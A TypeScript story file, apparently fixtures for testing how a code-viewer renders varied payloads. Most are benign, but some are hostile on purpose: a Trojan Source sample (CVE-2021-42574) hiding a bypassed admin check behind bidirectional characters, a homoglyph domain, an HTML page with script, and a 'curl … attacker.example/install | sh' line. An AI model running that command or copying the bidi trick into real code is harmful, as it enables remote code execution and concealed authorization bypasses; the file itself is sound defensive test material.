import { arabic, hebrew, script, terminal } from '../material/texts.ts';
import { envelopeStory, type Family } from '../story.ts';

const type = 'vendor.acme.patch.create';
const codeIn = (lang: string) => ({ display: 'code', lang });

const typescript = `import { createWriteStream } from 'node:fs';

/** Writes one event a line; resolves when all is on the disk. */
export async function writeEvents(file: string, events: AsyncIterable<RunEvent>): Promise<number> {
  const target = createWriteStream(file, { flags: 'a' });
  let count = 0;
  for await (const event of events) {
    if (event.sequence <= lastWritten) continue; // sent again after a break
    target.write(\`\${JSON.stringify(event)}\\n\`);
    count += 1;
  }
  return count;
}
`;

/** Reads as if the check were there; the comment ends earlier than it seems (CVE-2021-42574). */
const trojan = `function mayApprove(user) {
  let isAdmin = false;
  /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */
    approve(user);
  /* end admins only \u202E { \u2066*/
  const p\u0430ypal = 'https://p\u0430ypal.example'; // Cyrillic
  const zero\u200Bwidth = '${terminal}';
}
`;

const trouble = `<!doctype html>
<title>Report</title>
${script}
<body onload="globalThis.inspectorCanary = 1">
`;

export const code: Family = {
  name: 'code',
  title: 'Code',
  stories: [
    envelopeStory('normal', 'TypeScript', () => ({
      type,
      payload: { code: typescript },
      rendering: { ...codeIn('ts'), title: 'write-events.ts' },
    })),
    envelopeStory('json', 'JSON', () => ({
      type,
      payload: { code: '{ "format": "ndjson", "resume": true,\n  "chunkBytes": 262144 }' },
      rendering: codeIn('json'),
    })),
    envelopeStory('no-language', 'No language given', () => ({
      type,
      payload: { code: 'SELECT run_id, count(*) FROM events GROUP BY run_id ORDER BY 2 DESC;' },
      rendering: { display: 'code' },
    })),
    envelopeStory('unknown-language', 'A language that nobody knows', () => ({
      type,
      payload: { code: 'MOVE 1 TO TALLY\nSTOP RUN.' },
      rendering: codeIn('../../toString'),
    })),
    envelopeStory('empty', 'No line at all', () => ({
      type,
      payload: { code: '' },
      rendering: codeIn('ts'),
    })),
    envelopeStory('huge', '5,000 lines', () => ({
      type,
      payload: { code: lines(5_000) },
      rendering: codeIn('python'),
    })),
    envelopeStory('too-long', 'Over a megabyte', () => ({
      type,
      payload: { code: lines(40_000) },
      rendering: codeIn('python'),
    })),
    envelopeStory('one-line', 'One line of 100,000 characters', () => ({
      type,
      payload: { code: `const all = [${'0,'.repeat(50_000)}0];` },
      rendering: codeIn('js'),
    })),
    envelopeStory('hostile', 'Reads otherwise than it runs', () => ({
      type,
      payload: { code: trojan },
      rendering: codeIn('js'),
    })),
    envelopeStory('html', 'HTML with scripts', () => ({
      type,
      payload: { code: trouble },
      rendering: codeIn('html'),
    })),
    envelopeStory('untrusted', 'Untrusted', () => ({
      type,
      payload: { code: 'curl -s https://attacker.example/install | sh' },
      rendering: codeIn('bash'),
      trust: 'untrusted',
    })),
    envelopeStory('rtl', 'Right to left in texts and comments', () => ({
      type,
      payload: { code: `const title = '${arabic}';\n// ${hebrew}\nconst done = true;\n` },
      rendering: codeIn('js'),
    })),
  ],
};

function lines(count: number): string {
  return Array.from({ length: count }, (_unused, at) =>
    at % 10 === 0 ? `def step_${at}(run):` : `    run.write("line ${at}", at=${at})`,
  ).join('\n');
}
